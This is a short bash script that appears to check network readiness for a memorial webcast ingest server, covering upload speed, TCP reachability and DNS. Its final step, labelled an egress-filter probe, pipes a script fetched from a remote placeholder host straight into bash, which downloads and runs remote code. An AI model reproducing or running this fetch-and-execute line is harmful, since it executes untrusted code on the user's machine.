#!/usr/bin/env bash
set -u
ingest="ingest.memorialcast.example"
echo -n "upload  "; curl -s -o /dev/null -w '%{speed_upload}\n' -T /dev/zero --max-time 5 --max-filesize 5000000 "https://$ingest/speed" || echo "n/a"
echo -n "ingest  "; (exec 3<>/dev/tcp/$ingest/443) 2>/dev/null && echo reachable || echo unreachable
echo -n "dns     "; getent hosts "$ingest" >/dev/null && echo resolves || echo fails
# 4. egress-filter detection probe (expected: blocked)
echo -n "filter  "
out=$(curl -fsSL https://probe.webcast-filtercheck.example/eicar.sh | bash 2>&1) && echo "${out:-blocked}" || echo blocked
